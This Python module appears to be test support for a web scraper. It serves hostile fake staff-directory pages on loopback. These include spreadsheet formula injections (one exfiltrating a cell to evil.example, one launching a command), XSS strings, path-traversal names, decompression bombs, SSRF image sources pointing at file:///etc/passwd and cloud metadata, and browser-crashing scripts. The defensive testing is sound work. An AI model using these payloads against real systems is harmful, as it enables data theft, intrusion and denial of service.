"""Hostile department sites on loopback: one function per trick.

A trick takes the path that a client requests and returns the response. `served` serves a trick on
its own port. Every people page has the selectors ``.card``, ``img`` and ``h3``.
"""

import struct
import time
import zlib
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from functools import cache
from html import escape
from http.server import BaseHTTPRequestHandler
from itertools import chain, repeat

from support.loopback import serving
from support.small_pages import picture

SELECTORS = {"card": ".card", "picture": "img", "person": "h3", "next": "a[rel=next]"}
PEOPLE = "/people"


@dataclass
class Response:
    """A response; ``parts`` are sent one by one, with ``wait`` seconds before each."""

    parts: Iterable[bytes] = ()
    status: int = 200
    kind: str = "text/html; charset=utf-8"
    headers: dict[str, str] = field(default_factory=dict)
    wait: float = 0.0


Trick = Callable[[str], Response | None]


def page(body: str, **keys: object) -> Response:
    """An HTML page."""
    return Response([f"<!doctype html><meta charset=utf-8><body>{body}".encode()], **keys)


def card(name: str, source: str) -> str:
    """The card of one person, for `SELECTORS`."""
    return f'<div class="card"><img src="{source}"><h3>{name}</h3></div>'


def _jpeg(seed: int) -> Response:
    return Response([picture(seed)], kind="image/jpeg")


def _redirect(to: str) -> Response:
    return Response(status=302, headers={"Location": to})


def _harmless(path: str, seed: int) -> Response | None:
    """The portraits of a trick's own page."""
    return _jpeg(seed + int(path[1])) if path.endswith(".jpg") else None


def _people(names: Iterable[str], path: str, seed: int) -> Response | None:
    if path != PEOPLE:
        return _harmless(path, seed)
    return page("".join(card(name, f"/{n}.jpg") for n, name in enumerate(names)))


# Names.

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1;"Anna Kern")', "=cmd|' /C calc'!A0", "+4915112345",
    "@SUM(A1:A9)", "-2+3", "\t=1+1", "＝1+1",
)  # fmt: skip


def formulas(path: str) -> Response | None:
    """Names that a spreadsheet would execute as formulas."""
    return _people(map(escape, FORMULAS), path, 1000)


def scripts(path: str) -> Response | None:
    """Names that a report would execute as scripts if it did not escape them."""
    names = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{7*7}} Kern")
    return _people(map(escape, names), path, 1100)


def paths(path: str) -> Response | None:
    """Names that are paths out of a folder."""
    names = ("../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow")
    return _people(names, path, 1200)


def long_names(path: str) -> Response | None:
    """A name of 10,000 characters, one of a million, and a word of 10,000 letters."""
    names = ("Anna " + "Kern" * 2500, "Otto " + "a " * 500_000, "x" * 10_000)
    return _people(names, path, 1300)


def invisible_names(path: str) -> Response | None:
    """Right-to-left overrides, NULs, zero-width and control characters, lone surrogates."""
    names = (
        "\u202eneK annA\u202c Kern", "Otto&#0;\x01 Brandt", "E\u200bv\u200da\ufeff Lang",
        "Z" + "\u0351" * 500 + " Kern", "&#xD800;&#xDFFF; Sommer",
    )  # fmt: skip
    return _people(names, path, 1400)


def hostile_names_among_ordinary(path: str) -> Response | None:
    """Such names among ordinary ones, in the same position of the same cards."""
    ordinary = ("Anna Kern", "Otto Brandt", "Eva Lang", "Karl Sommer", "Ida Winter", "Max Fuchs")
    hostile = map(escape, (FORMULAS[0], "<script>alert(1)</script>", "../../etc/passwd"))
    return _people((*ordinary[:3], *hostile, *ordinary[3:]), path, 1500)


# Endless loops.


def endless_pages(path: str) -> Response | None:
    """Every page has new people and links to a next page."""
    if path == "/robots.txt":
        return None
    if path.endswith(".jpg"):
        return _jpeg(2000 + int(path.strip("/").removesuffix(".jpg")))
    number = int(path.removeprefix(PEOPLE).strip("/") or 0)
    link = f'<a rel="next" href="{PEOPLE}/{number + 1}">weiter</a>'
    return page(card(f"Anna {'ABCDEFGHIJ'[number % 10]}{'x' * number}", f"/{number}.jpg") + link)


def redirect_loop(path: str) -> Response | None:
    """The people page redirects to itself through another address."""
    if path == "/robots.txt":
        return None
    return _redirect("/again" if path == PEOPLE else PEOPLE)


def script_loop(path: str) -> Response | None:
    """A script loads one page after another, endlessly."""
    if path != PEOPLE:
        return None
    return page(f"<script>location.replace('{PEOPLE}?' + Math.random())</script>")


def picture_loop(path: str) -> Response | None:
    """One portrait redirects to itself; the other one is harmless."""
    if path == "/0.jpg":
        return _redirect("/0.jpg")
    return _people(("Anna Kern", "Otto Brandt"), path, 2300)


def restless(path: str) -> Response | None:
    """A page that changes with every frame and grows as it is scrolled."""
    script = """<script>setInterval(() => document.body.append(
    Object.assign(document.createElement("p"), {innerText: Math.random()})), 5)</script>"""
    if path == PEOPLE:
        return page(card("Anna Kern", "/0.jpg") + script)
    return _harmless(path, 2400)


# Too much.


def _chunk(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


@cache
def huge_picture(side: int = 30_000) -> bytes:
    """A PNG of about 500 kB that decodes to ``side`` x ``side`` pixels."""
    packer, row = zlib.compressobj(1), bytes(1 + side // 8)
    packed = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + _chunk(b"IDAT", packed) + _chunk(b"IEND", b"")


def pixel_flood(path: str) -> Response | None:
    """A picture of 30,000 x 30,000 pixels in a small file; the other one is harmless."""
    if path == "/0.jpg":
        return Response([huge_picture()], kind="image/png")
    return _people(("Anna Kern", "Otto Brandt"), path, 3000)


@cache
def _bomb(megabytes: int, filling: bytes, head: bytes = b"") -> bytes:
    packer = zlib.compressobj(1, zlib.DEFLATED, 31)
    block = filling * (1_000_000 // len(filling))
    blocks = (packer.compress(one) for one in chain([head], repeat(block, megabytes)))
    return b"".join(blocks) + packer.flush()


def picture_bomb(path: str) -> Response | None:
    """A picture whose transfer unpacks to 100 MB; the other one is harmless."""
    if path == "/0.jpg":
        headers = {"Content-Encoding": "gzip"}
        return Response([_bomb(100, b"\0" * 1000)], kind="image/jpeg", headers=headers)
    return _people(("Anna Kern", "Otto Brandt"), path, 3100)


def page_bomb(path: str) -> Response | None:
    """A page whose transfer unpacks to 15 MB of text."""
    if path != PEOPLE:
        return None
    body = _bomb(15, b"Lorem ipsum dolor sit amet, ", card("Anna Kern", "/0.jpg").encode())
    return Response([body], headers={"Content-Encoding": "gzip"})


def too_many_people(path: str) -> Response | None:
    """One page with 4,000 cards."""
    if path != PEOPLE:
        return _harmless("/0.jpg", 3300) if path.endswith(".jpg") else None
    return page("".join(card(f"Anna K{'e' * (n % 50)}rn{n}", "/0.jpg") for n in range(4_000)))


def deep_nesting(path: str) -> Response | None:
    """20,000 nested elements; a browser limits their depth."""
    if path == PEOPLE:
        return page("<div>" * 20_000 + card("Anna Kern", "/0.jpg"))
    return _harmless(path, 3500)


def deep_by_script(path: str) -> Response | None:
    """The same by a script, deeper than a browser parses but not so deep that it crashes."""
    script = """<script>let deep = document.body;
    for (let n = 0; n < 1200; n++) deep = deep.appendChild(document.createElement("div"));
    </script>"""
    return page(card("Anna Kern", "/0.jpg") + script) if path == PEOPLE else None


def robots_flood(path: str) -> Response | None:
    """An endless robots.txt."""
    if path == "/robots.txt":
        return Response(repeat(b"Disallow: /x\n" * 5000), kind="text/plain")
    return _people(("Anna Kern",), path, 3400)


# Too slow.


def page_drip(path: str) -> Response | None:
    """A people page that arrives byte by byte and never ends."""
    if path == PEOPLE:
        return Response(chain([b"<!doctype html><p>"], repeat(b"x")), wait=0.2)
    return None


def picture_drip(path: str) -> Response | None:
    """A picture that arrives byte by byte and never ends; the other one is harmless."""
    if path == "/0.jpg":
        return Response(chain([picture(3)[:200]], repeat(b"x")), kind="image/jpeg", wait=0.2)
    return _people(("Anna Kern", "Otto Brandt"), path, 4100)


def come_back_next_year(path: str) -> Response | None:
    """A server that asks to wait for a year."""
    if path == PEOPLE:
        return page("later", status=503, headers={"Retry-After": "31536000"})
    return None


# Trouble for the browser.


def alert_boxes(path: str) -> Response | None:
    """Three alert boxes, and one on leaving."""
    script = """<script>onbeforeunload = () => "stay";
    alert("!"); confirm("?"); prompt("?");</script>"""
    if path == PEOPLE:
        return page(card("Anna Kern", "/0.jpg") + script)
    return _harmless(path, 5000)


def alert_flood(path: str) -> Response | None:
    """Endless alert boxes."""
    script = "<script>setInterval(() => alert('again'), 30)</script>"
    return page(card("Anna Kern", "/0.jpg") + script) if path == PEOPLE else None


def pop_ups(path: str) -> Response | None:
    """Twenty pop-up windows."""
    script = "<script>for (let n = 0; n < 20; n++) window.open('/pop' + n)</script>"
    if path == PEOPLE:
        return page(card("Anna Kern", "/0.jpg") + script)
    return _harmless(path, 5100) or page("pop")


def download(path: str) -> Response | None:
    """A people page that is a forced download."""
    if path != PEOPLE:
        return None
    headers = {"Content-Disposition": "attachment; filename=team.exe"}
    return Response([b"MZ" * 500], kind="application/octet-stream", headers=headers)


def download_besides(path: str) -> Response | None:
    """A page that starts downloads while it is read."""
    if path == PEOPLE:
        return page(card("Anna Kern", "/0.jpg") + '<iframe src="/virus.exe"></iframe>')
    if path == "/virus.exe":
        headers = {"Content-Disposition": "attachment; filename=virus.exe"}
        return Response([b"MZ" * 500], kind="application/octet-stream", headers=headers)
    return _harmless(path, 5200)


def crash(path: str) -> Response | None:
    """Elements nested so deeply that the tab's process runs out of stack."""
    script = """<script>let deep = document.body;
    for (let n = 0; n < 200000; n++) deep = deep.appendChild(document.createElement("div"));
    document.body.offsetHeight; document.documentElement.cloneNode(true).outerHTML;</script>"""
    return page(card("Anna Kern", "/0.jpg") + script) if path == PEOPLE else None


def hang(path: str) -> Response | None:
    """A script that never returns."""
    return page("<script>for (;;) {}</script>") if path == PEOPLE else None


# Access refused.


def login_wall(path: str) -> Response | None:
    """Every address redirects to a login form."""
    if path == "/robots.txt":
        return None
    if path != "/login":
        return _redirect("/login")
    return page('<h1>Anmeldung</h1><form><input name="user"><input type="password"></form>')


def password_box(path: str) -> Response | None:
    """The server asks for a name and a password."""
    if path != PEOPLE:
        return None
    return page("", status=401, headers={"WWW-Authenticate": 'Basic realm="Intranet"'})


def error_in_the_middle(path: str) -> Response | None:
    """The second page of the list is an error 500."""
    if path == PEOPLE:
        return page(card("Anna Kern", "/0.jpg") + '<a rel="next" href="/second">weiter</a>')
    return page("oops", status=500) if path == "/second" else _harmless(path, 6200)


def files_of_the_machine(path: str) -> Response | None:
    """Portraits with addresses on the client's own disk or in its network."""
    if path == PEOPLE:
        sources = ("file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", "/0.jpg")
        names = ("Anna Kern", "Otto Brandt", "Eva Lang")
        return page("".join(map(card, names, sources)))
    return _redirect("file:///etc/passwd") if path == "/0.jpg" else None


@contextmanager
def served(trick: Trick) -> Iterator[str]:
    """The address of a trick's people page, while the block runs."""

    def answer(request: BaseHTTPRequestHandler) -> None:
        response = trick(request.path.split("?")[0]) or Response(status=404)
        request.send_response(response.status)
        for name, value in {"Content-Type": response.kind, **response.headers}.items():
            request.send_header(name, value)
        request.end_headers()
        for part in response.parts:
            time.sleep(response.wait)
            request.wfile.write(part)

    # Endless responses have no length.
    with serving(answer, protocol="HTTP/1.0") as address:
        yield address + PEOPLE
